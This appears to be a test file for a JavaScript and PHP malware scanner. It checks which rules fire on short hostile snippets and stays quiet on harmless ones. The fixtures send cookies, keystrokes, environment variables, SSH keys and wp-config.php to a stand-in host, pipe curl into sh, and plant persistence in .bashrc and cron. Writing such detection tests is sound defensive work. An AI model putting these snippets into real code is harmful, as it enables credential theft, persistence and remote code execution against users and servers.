// biome-ignore-all lint/suspicious/noTemplateCurlyInString: JavaScript writes values so.

import assert from 'node:assert/strict';
import { createScan } from '../../../domain/scan/scan.js';

function raised(path: string, text: string): string[] {
  const scan = createScan();
  scan.file(path, Buffer.from(text));
  return scan
    .result()
    .flags.filter(({ severity }) => severity !== 'low')
    .map(({ rule }) => rule);
}

/** What it is, the rule at medium or high, and the code. */
type Row = readonly [what: string, rule: string, code: string];

const leaksOfPages: readonly Row[] = [
  ['cookies in an address', 'data_leak', 'fetch(`https://a.example.net/?${encodeURIComponent(document.cookie)}`);'],
  [
    'cookies of a pattern',
    'data_leak',
    "const { cookie: c } = document; navigator.sendBeacon('//a.example.net/b', c);",
  ],
  [
    'cookies in a style',
    'data_leak',
    "s.textContent = '@import url(\"https://a.example.net/' + document.cookie + '\")';",
  ],
  ['cookies to an unknown host', 'data_leak', "new Image().src = o.to + '?c=' + encodeURIComponent(document.cookie);"],
  [
    'storage walked through',
    'data_leak',
    "post('https://a.example.net', JSON.stringify({ ...localStorage })); fetch(x);",
  ],
  [
    'keys',
    'data_leak',
    "addEventListener('keydown', (e) => k.push(e.key)); setInterval(() => ws.send(k), 9); const ws = new WebSocket('wss://a.example.net');",
  ],
  [
    'a form',
    'data_leak',
    "f.addEventListener('submit', () => navigator.sendBeacon('https://a.example.net', new FormData(f)));",
  ],
  ['a form that is sent elsewhere', 'data_leak', "f.setAttribute('action', 'https://a.example.net/in');"],
  [
    'a replaced method',
    'data_leak',
    'const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { fetch("https://a.example.net", { body: b }); s.call(this, b); };',
  ],
  ['a message to everybody', 'data_leak', "parent.postMessage({ c: document.cookie }, '*');"],
  [
    'what is typed into a field',
    'data_leak',
    "n.onblur = () => { const s = new WebSocket('wss://a.example.net'); s.send(n.value); };",
  ],
  [
    'requests of a worker',
    'data_leak',
    "addEventListener('fetch', (e) => fetch('https://a.example.net', { body: e.request.clone().body }));",
  ],
  [
    'a link in markup',
    'data_leak',
    "const j = document.cookie; h.insertAdjacentHTML('beforeend', '<link href=\"https://a.example.net/a?' + j + '\">');",
  ],
  [
    'a form that asks for a password',
    'data_leak',
    'b.innerHTML = \'<form action="https://a.example.net/in"><input type="password"></form>\';',
  ],
];

const leaksOfNode: readonly Row[] = [
  [
    'the environment',
    'data_leak',
    "require('https').request({ host: 'a.example.net' }).end(JSON.stringify(process.env));",
  ],
  [
    'the environment by a pattern',
    'data_leak',
    "const { env } = process; fetch('https://a.example.net', { body: JSON.stringify(env) });",
  ],
  [
    'the environment in names of hosts',
    'data_leak',
    "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.a.example.net', f);",
  ],
  ['a token', 'data_leak', "require('https').get('https://a.example.net/' + process.env.DEPLOY_TOKEN);"],
  [
    'a file of keys',
    'data_leak',
    "fs.readFile(home + '/.ssh/id_rsa', (e, d) => fetch('https://a.example.net', { body: d }));",
  ],
  ['a file that runs by itself', 'file_write', "fs.appendFileSync(os.homedir() + '/.bashrc', x);"],
  [
    'a program that is downloaded',
    'file_write',
    "https.get('https://a.example.net/p', (r) => r.pipe(fs.createWriteStream(d + '/p.js')));",
  ],
  ['a command that runs a download', 'shell_exec', "run('curl -s https://a.example.net/i | sh');"],
];

const code: readonly Row[] = [
  ['a member by pieces', 'obfuscated_script', "el['set' + 'Something'](a);"],
  ['a member by a joined list', 'obfuscated_script', "el[['some', 'Thing'].join('')](a);"],
  ['a member by a template', 'obfuscated_script', "el[`some${'Thing'}`](a);"],
  ['an event by pieces', 'obfuscated_script', "window['on' + 'load'](z);"],
  ['a property by pieces', 'obfuscated_script', "const { ['some' + 'Thing']: f } = o;"],
  ['a telling name, whatever becomes of it', 'obfuscated_script', "const a = 'local'; f(a + 'Storage');"],
  ['a path from the global object', 'eval', "p.split('.').reduce((o, k) => o[k], window)(a);"],
  ['the names of all globals', 'eval', 'const n = Object.getOwnPropertyNames(globalThis);'],
  ['the descriptor of a constructor', 'eval', "const d = Object.getOwnPropertyDescriptor(p, 'constructor');"],
  ['the constructor by a pattern', 'eval', "const { ['constructor']: F } = Object.getPrototypeOf(f);"],
  ['eval in a list', 'eval', 'const list = [Math.max, eval, Math.min];'],
  ['an import of what was joined', 'eval', "import(['https:', '', host].join('/'));"],
  ['any module', 'eval', "const { builtinModules: b } = require('module'); b.filter(f).map(require);"],
  ['the console of the process', 'eval', "new (require('node:inspector').Session)().connect();"],
  ['a worker of a text', 'eval', 'new T(text, { workerData, eval: true });'],
  [
    'a script of another server',
    'eval',
    "Object.assign(document.createElement('script'), { src: 'https://a.example.net/a.js' });",
  ],
  ['what a request asks for', 'eval', 'exports.run = (req) => require(req.query.m)[req.query.f](1);'],
  ['code near a message', 'eval', "addEventListener('message', (e) => window[e.data.f](e.data.a));"],
  [
    'a script that jQuery gets from another server',
    'eval',
    "$.ajax({ url: 'https://a.example.net/j', dataType: 'script' });",
  ],
  [
    'a handler whose name others decide',
    'eval',
    "addEventListener('message', ({ data: { a, b } }) => el.setAttribute(a, b));",
  ],
];

const php: readonly Row[] = [
  [
    'the environment in names of hosts',
    'data_leak',
    "foreach (getenv() as $k => $v) checkdnsrr(bin2hex($v) . '.a.example.net');",
  ],
  [
    'a file of passwords',
    'data_leak',
    "$s = stream_socket_client('tcp://' . $h); fwrite($s, file_get_contents($root . '/wp-config.php'));",
  ],
  [
    'a password of a form',
    'data_leak',
    "$c = curl_init('https://a.example.net'); curl_setopt($c, CURLOPT_POSTFIELDS, $form['password']);",
  ],
  ['cookies by mail', 'data_leak', "mail('a@example.net', 'x', json_encode($_COOKIE));"],
  [
    'a class that is not named',
    'eval',
    'function __get($n) { $c = $this->d[$n]; return new $c($this->a); } f($_GET["k"]);',
  ],
  ['what PHP computes, with the request', 'eval', 'call_user_func($d->format($p), $_GET["a"]);'],
  [
    'a property that the request names',
    'eval',
    '$f = $this->weigh; $f($x); $this->weigh = "strlen"; $o->$p = $_POST["v"];',
  ],
  ['a log that the request names', 'process_environment', "ini_set('error_log', $dir . '/' . basename($_POST['c']));"],
  [
    'an archive in a temporary file',
    'file_write',
    '$t = tempnam($d, "z"); copy($from, $t); $z = new ZipArchive(); $z->open($t); $z->extractTo($d);',
  ],
  [
    'a key of a generator',
    'eval',
    'function p($in) { foreach ($in as $k => $v) yield $k => $v; } foreach (p($_POST) as $f => $a) $f($a);',
  ],
  [
    'a function of another server',
    'eval',
    '$j = json_decode(file_get_contents("https://a.example.net/j")); ($j->f)($j->a);',
  ],
  ['a function of a row', 'obfuscated', '$r = $q->fetch(); call_user_func($r["f"], $r["a"]);'],
  ['a class of a row', 'eval', '$r = $q->fetch(); new $r["class"]($a);'],
  ['a temporary file after a condition', 'include_image', '$n = tempnam($d, "b"); f($n) && require $n;'],
  ['an unknown file beside a download', 'eval', 'copy("https://a.example.net/m", $f); include $g;'],
  [
    'an archive that is downloaded',
    'file_write',
    'copy("https://a.example.net/p.zip", $f); $z->open($f); $z->extractTo($d);',
  ],
  [
    'a property that is given by name',
    'eval',
    'class F { public $f = "is_string"; function a() { return ($this->f)($this->v); } } $o->f = $_POST["f"];',
  ],
  ['objects of another server', 'unserialize_request', 'unserialize(file_get_contents("https://a.example.net/o"));'],
  [
    'what another server writes into the page',
    'inline_script',
    'echo file_get_contents("https://a.example.net/f.html");',
  ],
  ['a program that copies itself', 'file_write', 'copy(__FILE__, $d . "/index2.php");'],
  ['a program that joins itself to others', 'file_write', 'file_put_contents($f, file_get_contents(__FILE__) . $old);'],
  ['a file that runs by itself', 'file_write', 'file_put_contents("/etc/cron.d/x", $line);'],
  ['passwords that are kept', 'data_leak', 'file_put_contents($f, $_POST["log"] . $_POST["pwd"], FILE_APPEND);'],
  [
    'cookies in the page',
    'data_leak',
    'echo "<img src=\'https://a.example.net/p?" . http_build_query($_COOKIE) . "\'>";',
  ],
  [
    'the environment to an unknown host',
    'data_leak',
    'curl_setopt(curl_init($o["to"]), CURLOPT_POSTFIELDS, json_encode($_ENV));',
  ],
  [
    'what search engines see',
    'server_config',
    'if (preg_match("/googlebot/i", $ua)) echo f("https://a.example.net/links");',
  ],
];

const harmless: readonly Row[] = [
  ['a.js', '', "document.cookie = 'a=1'; fetch('https://a.example.net/x');"],
  ['a.js', '', "const p = process.env.PORT; fetch('https://a.example.net/' + p);"],
  ['a.js', '', "el[(on ? 'add' : 'remove') + 'Class']('a'); el['offset' + side];"],
  ['a.js', '', "document.createElement('input'); fetch('https://a.example.net');"],
  ['a.js', '', 'const keys = Object.keys(o); list.reduce((a, b) => a + b, 0);'],
  ['a.js', '', "import('./page.js'); new Worker('./worker.js');"],
  ['a.php', '', "<?php $c = curl_init('https://a.example.net'); curl_exec($c);"],
  ['a.php', '', "<?php setcookie('a', 'b'); $u = 'https://a.example.net';"],
  ['a.php', '', "<?php $c = $map['x']; new $c($a);"],
  ['a.php', '', '<?php $p = $_SERVER["HTTP_HOST"]; curl_exec(curl_init("https://a.example.net"));'],
  ['a.php', '', '<?php file_put_contents($f, date("c"), FILE_APPEND); $d = dirname(__FILE__);'],
  ['a.php', '', '<?php echo "<a href=\'https://a.example.net\'>" . $_COOKIE["lang"];'],
  ['a.php', '', '<?php function g($a) { foreach ($a as $k => $v) yield $k => $v; } include $f;'],
];

describe('what stands near something else (decisions §5)', () => {
  for (const [file, rows] of [
    ['a.js', leaksOfPages],
    ['a.js', leaksOfNode],
    ['a.js', code],
    ['a.php', php],
  ] as const) {
    for (const [what, rule, text] of rows) {
      it(`finds ${what}: ${rule} (decisions §5)`, () => {
        assert.ok(raised(file, file === 'a.php' ? `<?php ${text}` : text).includes(rule));
      });
    }
  }

  it('finds leaks in the scripts of pages (decisions §5)', () => {
    const page = '<p>x</p><script>new Image().src = "https://a.example.net/?" + document.cookie;</script>';
    assert.ok(raised('a.html', page).includes('data_leak'));
  });

  for (const [file, , text] of harmless) {
    it(`leaves ${text} alone (decisions §5)`, () => assert.deepEqual(raised(file, text), []));
  }

  it('does not count what is far away (decisions §5)', () => {
    const between = 'a();\n'.repeat(200);
    assert.deepEqual(raised('a.js', `const c = document.cookie;\n${between}fetch('https://a.example.net');`), []);
  });
});
